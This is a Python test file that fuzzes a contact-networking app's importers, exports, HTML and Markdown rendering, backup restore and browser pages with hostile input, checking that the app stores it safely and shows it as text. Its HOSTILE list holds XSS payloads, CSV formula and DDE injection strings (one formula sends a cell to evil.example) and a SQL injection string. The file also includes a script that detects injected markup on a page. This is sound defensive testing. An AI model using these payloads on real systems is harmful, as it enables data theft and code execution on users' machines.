"""Hostile input: files, names, notes and asks that try to break, script or smuggle, and fail to.

Random inputs come from Hypothesis, derandomised so the figures in docs/reliability.md stay put
(a --soak run draws fresh random inputs, many more of them).
"""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from datetime import datetime
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

import ui.session
from core.asks import FINDING_TITLES, REQUEST_KINDS, AskRequest, check_ask, compose_ask
from core.errors import ImportFileError
from core.import_result import FORMATS
from core.model import CHANNELS, ContactDraft
from fileio.action_plan import PlanSection, render_html, render_markdown
from fileio.csv_table import read_table
from fileio.export import FORMULA_STARTS, build_workbook_zip, write_csv
from fileio.reader import read_columns, read_contacts
from fileio.vcard import read_vcards, write_vcards
from store import WorkbookError, open_workbook
from store.backup import (
    check_workbook_file,
    contacts_for_export,
    export_tables,
    restore_workbook,
)
from store.contacts import add_contact
from store.imports import import_contacts
from tests.reliability.conftest import SOAK_ENV

LONG = "Ω" * 9_990 + " end-of-10k"
LONGEST_FITTING = "Ω" * 180 + " end-of-fit"  # with the " #n" the CSV adds, just under the 200 a name may have
HOSTILE = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "Robert'); DROP TABLE contacts;--",
    "مريم العلي",
    "\u202eevil.exe\u202c",
    "Zoë 👩🏽‍💻 Nguyễn",
    "**bold** _it_ :red[red] $x^2$ {{7*7}} ${7*7}",
]
NAMES_FOR_FORMS = [h for h in HOSTILE if h == " ".join(h.split())]  # forms trim and collapse blanks
RUNS = 200
_hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=300),
    st.just(LONG),
    st.lists(st.sampled_from(HOSTILE), max_size=4).map(" ".join),
)
SOAK = int(os.environ.get(SOAK_ENV, "1") or "1")  # set from --soak by this folder's conftest


def fuzz(examples: int = RUNS):
    """Hypothesis settings: derandomised in CI (stable figures), fresh and larger under --soak."""
    return settings(
        max_examples=examples * SOAK,
        deadline=None,
        derandomize=SOAK == 1,
        database=None,
        suppress_health_check=list(HealthCheck),
    )


def assert_one_line(error: Exception) -> None:
    message = str(error)
    assert message.strip() and "\n" not in message and "Traceback" not in message


# --- the ask checker and composer ---------------------------------------------------------------


@fuzz()
@given(
    text=_hostile_text,
    channel=st.one_of(st.sampled_from(list(CHANNELS)), st.text(max_size=10)),
    target=st.one_of(st.none(), _hostile_text),
)
def test_the_ask_checker_judges_any_text_and_never_fails(text, channel, target, record):
    record("Hostile input", "ask checker: random and hostile text", inputs=1)
    findings = check_ask(text, channel, target)
    assert {f.code for f in findings} <= set(FINDING_TITLES)
    assert all(f.why and f.rewrite for f in findings)
    if not text.strip():
        assert [f.code for f in findings] == ["empty"]


@fuzz(examples=100)
@given(
    name=_hostile_text,
    target=_hostile_text,
    recent=_hostile_text,
    kind=st.sampled_from(list(REQUEST_KINDS)),
    channel=st.sampled_from(list(CHANNELS)),
    approach=st.sampled_from(["catch_up", "direct"]),
)
def test_the_ask_composer_drafts_from_any_text_without_failing(name, target, recent, kind, channel, approach, record):
    record("Hostile input", "ask composer: random and hostile text", inputs=1)
    draft = compose_ask(
        AskRequest(name, kind, target=target, target_kind="role", recent=recent, approach=approach, channel=channel)
    )
    assert isinstance(draft, str) and draft.strip()


# --- every importer -------------------------------------------------------------------------------

HEADERS = [
    b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n",
    b"\xef\xbb\xbfFirst Name,Last Name,Organization Name,Labels,E-mail 1 - Value\n",
    b"First Name,Last Name,Job Title,E-mail Address\n",
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:",
    b"Name,Email,Company,Notes\n",
    b"\xff\xfeN\x00a\x00m\x00e\x00\n\x00",
    b"",
]
_cells = st.lists(_hostile_text.map(lambda t: t.encode("utf-8", "surrogatepass")), max_size=6).map(b",".join)
_bodies = st.one_of(
    st.binary(max_size=600),
    _cells,
    st.lists(_cells, max_size=8).map(b"\n".join),
    st.text(alphabet=',"\n\r;:=\\\x00 ab\u202e', max_size=300).map(str.encode),
)


@fuzz(examples=300)
@given(head=st.sampled_from(HEADERS), body=_bodies, fmt=st.sampled_from([None, *FORMATS]))
def test_every_importer_given_hostile_bytes_fails_only_with_its_one_line_error(head, body, fmt, record):
    record("Hostile input", "importers (LinkedIn, Google, Outlook, vCard, any CSV): hostile bytes", inputs=1)
    try:
        result = read_contacts(head + body, fmt=fmt)
    except ImportFileError as error:
        assert_one_line(error)
        return
    assert result.drafts and all(d.name.strip() for d in result.drafts)


@fuzz(examples=100)
@given(head=st.sampled_from(HEADERS), body=_bodies)
def test_reading_the_columns_of_hostile_bytes_fails_only_with_the_one_line_error(head, body, record):
    record("Hostile input", "importers: column mapping step on hostile bytes", inputs=1)
    try:
        read_columns(head + body)
    except ImportFileError as error:
        assert_one_line(error)


@fuzz(examples=100)
@given(text=st.one_of(st.text(max_size=400), st.lists(_hostile_text, max_size=6).map("\r\n".join)))
def test_the_csv_table_and_vcard_readers_fail_only_with_the_one_line_error(text, record):
    record("Hostile input", "CSV table and vCard readers: random and hostile text", inputs=3)
    for reader in (read_table, read_vcards, lambda t: read_vcards("BEGIN:VCARD\r\n" + t + "\r\nEND:VCARD")):
        try:
            reader(text)
        except ImportFileError as error:
            assert_one_line(error)


# --- hostile text through import, the store and every export ------------------------------------


def hostile_csv(values: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["Name", "Email", "Company", "Notes"])
    for n, value in enumerate(values):
        writer.writerow([f"{value} #{n}", "", value, value])
    return buffer.getvalue().encode("utf-8")


def assert_spreadsheet_safe(text: str, originals: set[str]) -> None:
    """No cell can start a formula; a neutralised cell is the original behind an apostrophe."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula cell exported: {cell[:40]!r}"
            if cell.startswith("'") and cell[1:] in originals:
                assert cell[1:].startswith(FORMULA_STARTS)


def test_hostile_names_and_notes_import_exactly_and_export_as_plain_text(workbook, record):
    values = [*HOSTILE, LONGEST_FITTING]
    read = read_contacts(hostile_csv([*values, LONG]), fmt="csv")
    # A value longer than the form takes is skipped with the reason, as the form would refuse it.
    assert [s.reason for s in read.skipped] == [
        f"the name is {len(LONG) + len(f' #{len(values)}'):,} characters; up to 200 fit"
    ]
    summary = import_contacts(workbook, read)
    assert summary.added == len(values)
    stored = dict(workbook.read("SELECT company, notes FROM contacts"))
    wanted = {v.strip(): v.strip() for v in values}
    assert stored == wanted  # every byte of every value, the longest that fits and RTL marks included
    people = contacts_for_export(workbook)
    columns = ["name", "email", "company", "notes"]
    exported = write_csv(columns, [[getattr(p, c) for c in columns] for p in people])
    assert_spreadsheet_safe(exported, set(wanted))
    zipped = build_workbook_zip(export_tables(workbook), workbook.schema_version(), datetime(2026, 1, 1))
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        contacts_csv = archive.read("contacts.csv").decode("utf-8-sig")
    assert_spreadsheet_safe(contacts_csv, set(wanted))
    back = {row["company"].removeprefix("'") for row in csv.DictReader(io.StringIO(contacts_csv))}
    assert back == set(wanted)
    cards, _, skipped = read_vcards(write_vcards(people))
    assert skipped == [] and {c.company for c in cards} == set(wanted)
    record(
        "Hostile input",
        "hostile, longest-fitting and right-to-left text: import, store, CSV, zip, vCard; 10,000 characters skipped",
        inputs=len(values),
        lost=len(set(wanted) - back),
    )


@fuzz(examples=150)
@given(rows=st.lists(st.lists(_hostile_text, min_size=3, max_size=3), min_size=1, max_size=6))
def test_no_exported_cell_can_start_a_formula(rows, record):
    record("Hostile input", "CSV export: cells that try to start a formula", inputs=sum(map(len, rows)))
    text = write_csv(["a", "b", "c"], rows)
    originals = {v for row in rows for v in row}
    assert_spreadsheet_safe(text, originals)
    back = list(csv.reader(io.StringIO(text)))[1:]
    for row, original in zip(back, rows):
        for cell, value in zip(row, original):
            assert cell == value or cell == "'" + value


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on") or name in ("href", "src")]


@fuzz(examples=100)
@given(title=_hostile_text, items=st.lists(_hostile_text, max_size=5))
def test_the_printable_plan_shows_any_text_as_text_never_as_markup(title, items, record):
    record("Hostile input", "printable action plan (HTML, Markdown): hostile text", inputs=1)
    page = render_html(title, [PlanSection(title, title, tuple(items))], datetime(2026, 1, 1).date())
    parser = _Tags()
    parser.feed(page)
    assert set(parser.tags) <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "p",
        "section",
        "ul",
        "li",
        "em",
    }
    assert parser.handlers == []
    markdown = render_markdown(title, [PlanSection(title, title, tuple(items))], datetime(2026, 1, 1).date())
    assert "<" not in markdown  # no raw HTML tag can open
    assert re.search(r"(?<!\\)\]\(", markdown) is None  # no unescaped "](" can start a link


# --- the restore check ----------------------------------------------------------------------------


@pytest.fixture
def filled(workbook):
    add_contact(workbook, ContactDraft(name="Keep Me", notes="unchanged by a refused restore"))
    return workbook


def restore_is_refused(workbook, upload) -> None:
    before = export_tables(workbook)
    with pytest.raises(WorkbookError) as refused:
        restore_workbook(workbook, upload, None, datetime(2026, 1, 1))
    assert_one_line(refused.value)
    assert export_tables(workbook) == before


@fuzz(examples=60)
@given(data=st.one_of(st.binary(max_size=5000), st.binary(max_size=5000).map(lambda b: b"\x00" * 8 + b"DUCK" + b)))
def test_random_bytes_offered_as_a_backup_are_refused_with_one_line(tmp_path_factory, data, record):
    record("Hostile input", "restore check: random bytes offered as a backup", inputs=1)
    upload = tmp_path_factory.mktemp("upload") / "backup.duckdb"
    upload.write_bytes(data)
    with pytest.raises(WorkbookError) as refused:
        check_workbook_file(upload)
    assert_one_line(refused.value)


def test_random_bytes_restored_leave_the_workbook_unchanged(filled, tmp_path, record):
    upload = tmp_path / "noise.duckdb"
    upload.write_bytes(b"\x00" * 8 + b"DUCK" + bytes(range(256)) * 40)
    restore_is_refused(filled, upload)
    record("Hostile input", "restore check: random bytes offered as a backup", inputs=1)


def test_a_duckdb_file_of_someone_else_is_refused_and_the_workbook_is_unchanged(filled, tmp_path, record):
    import duckdb

    foreign = tmp_path / "someone-else.duckdb"
    with duckdb.connect(str(foreign)) as con:
        con.execute("CREATE TABLE meta (key VARCHAR, value VARCHAR)")
        con.execute("INSERT INTO meta VALUES ('application', 'payroll'), ('schema_version', '1')")
        con.execute("CREATE TABLE contacts (name VARCHAR)")
        con.execute("INSERT INTO contacts VALUES ('<script>alert(1)</script>')")
    restore_is_refused(filled, foreign)
    assert "not a workbook of this app" in str(pytest.raises(WorkbookError, check_workbook_file, foreign).value)
    record("Hostile input", "restore check: a DuckDB file of another program", inputs=1, lost=0)


# --- hostile names through the tip 1 page (AppTest) ---------------------------------------------


@pytest.fixture
def tip_one(app_on, tmp_path):
    path = tmp_path / "hostile.duckdb"
    return path, app_on(path, "know_your_network.py")


def add_through_page(at: AppTest, name: str, notes: str = "") -> None:
    at.text_input(key="new_name").input(name)
    at.text_area(key="new_notes").input(notes)
    next(b for b in at.button if b.label == "Add person").click().run()
    anyway = [b for b in at.button if b.label == "Add anyway"]  # a name like one already added: confirm it
    if anyway:
        anyway[0].click().run()


def test_hostile_names_typed_into_tip_one_are_saved_and_shown_as_typed(tip_one, record):
    path, at = tip_one
    for name in NAMES_FOR_FORMS:
        add_through_page(at, name, notes=name)
        assert not at.exception
        shown = [re.sub(r"\\(.)", r"\1", s.value) for s in at.success]  # Markdown escapes undone
        assert any(f"Added {name} " in text for text in shown), (name, shown)
    stored = ui.session._open_local(str(path)).read("SELECT name, notes FROM contacts ORDER BY id")
    assert stored == [(n, n.strip()) for n in NAMES_FOR_FORMS]
    record(
        "Hostile input",
        "hostile names and notes typed into tip 1 (AppTest)",
        sessions=1,
        changes=len(stored),
        inputs=len(NAMES_FOR_FORMS),
        lost=len(NAMES_FOR_FORMS) - len(stored),
    )


def test_a_ten_thousand_character_name_or_note_is_refused_in_one_line_and_nothing_is_saved(tip_one, record):
    path, at = tip_one
    add_through_page(at, LONG)
    add_through_page(at, "Short Name", notes=LONG)
    assert not at.exception
    assert ui.session._open_local(str(path)).read("SELECT count(*) FROM contacts") == [(0,)]
    assert any("over 200 characters" in e.value for e in at.error) or any("shorten" in e.value for e in at.error)
    assert all("\n" not in e.value for e in at.error)
    record(
        "Hostile input",
        "10,000-character name and note typed into tip 1: refused, nothing saved",
        sessions=1,
        inputs=2,
        lost=0,
    )


# --- hostile text on every page of the real server, in a real browser ----------------------------

PAGES = (
    "",
    "know_your_network",
    "reach_out",
    "build_relationships",
    "rate_your_network",
    "strong_and_weak_ties",
    "maintain_your_network",
    "import_export",
    "about_your_data",
    "workshop",
)
_INJECTED = """() => {
    const bad = [];
    for (const s of document.querySelectorAll('script')) if (s.textContent.includes('alert(')) bad.push('script');
    for (const e of document.querySelectorAll('*')) for (const a of e.attributes) {
        const name = a.name.toLowerCase(), value = a.value.toLowerCase();
        if (name.startsWith('on') && value.includes('alert(')) bad.push(e.tagName + '[' + name + ']');
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)
            && value.replace(/\\s/g, '').startsWith('javascript:')) bad.push(e.tagName + '[' + name + ']');
    }
    for (const f of document.querySelectorAll('iframe[srcdoc], object, embed')) bad.push(f.tagName);
    return bad;
}"""


def fill_with_hostile_text(path) -> None:
    from datetime import date

    from store.goals import add_goal, link_contacts
    from store.interactions import log_interaction
    from store.maintenance import (
        add_ledger_entry,
        save_person_notes,
        set_key_contact,
    )
    from store.outreach import set_reference
    from store.ratings import save_rating

    today = date.today()
    book = open_workbook(path)
    try:
        for n, text in enumerate(HOSTILE):
            person = add_contact(
                book,
                ContactDraft(
                    name=f"{text} {n}", company=text, role=text, notes=text, tie="strong" if n % 2 else "weak"
                ),
            )
            set_key_contact(book, person, 30)
            save_person_notes(book, person, family=text, interests=text)
            log_interaction(book, person, today, "ask", note=text, today=today)
            add_ledger_entry(book, person, today, "gave", "thank_you", 1, today=today, note=text)
            link_contacts(book, add_goal(book, "role", f"{text} {n}"), [person])
            set_reference(book, [person])
        save_rating(
            book,
            {q: False for q in ("truth", "challenge", "vibrant", "future", "strong_links")},
            today,
            today=today,
            strengths=HOSTILE[0],
            weaknesses=HOSTILE[1],
            opportunities=HOSTILE[2],
        )
    finally:
        book.close()


@pytest.mark.browser
def test_hostile_text_on_every_page_of_the_real_server_shows_as_text_and_runs_nothing(browser, tmp_path, record):
    from tests.browser_support import start_server, wait_until_idle

    path = tmp_path / "hostile.duckdb"
    fill_with_hostile_text(path)
    server = start_server(path, tmp_path)
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    tab = context.new_page()
    tab.set_default_timeout(30_000)
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    injected: dict[str, list[str]] = {}
    try:
        for page in PAGES:
            tab.goto(f"{server.url}/{page}")
            wait_until_idle(tab)
            # Every tab's content is in the page already (hidden until chosen), so one look covers them.
            injected.setdefault(page or "home", []).extend(tab.evaluate(_INJECTED))
        tab.goto(f"{server.url}/know_your_network")
        wait_until_idle(tab)
        for name in ("<script>alert(1)</script>", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>"):
            tab.get_by_label("Name (required)").fill(name)
            tab.get_by_role("button", name="Add person").click()
            wait_until_idle(tab)
            if tab.get_by_role("button", name="Add anyway").count():  # it looks like a hostile name listed already
                tab.get_by_role("button", name="Add anyway").click()
                wait_until_idle(tab)
            success = tab.locator('[data-testid="stAlertContentSuccess"]').first.inner_text()
            assert f"Added {name} to" in success  # shown exactly as typed, not rendered
            injected["know_your_network"] += tab.evaluate(_INJECTED)
    finally:
        context.close()
        server.stop()
    leaks = {page: found for page, found in injected.items() if found}
    record(
        "Hostile input",
        "hostile names, notes and goals on every page of the real server (browser)",
        sessions=1,
        inputs=len(HOSTILE) * 6 + 3,
        lost=len(dialogs) + sum(map(len, leaks.values())),
    )
    assert dialogs == [], f"a dialog fired: {dialogs}"
    assert leaks == {}
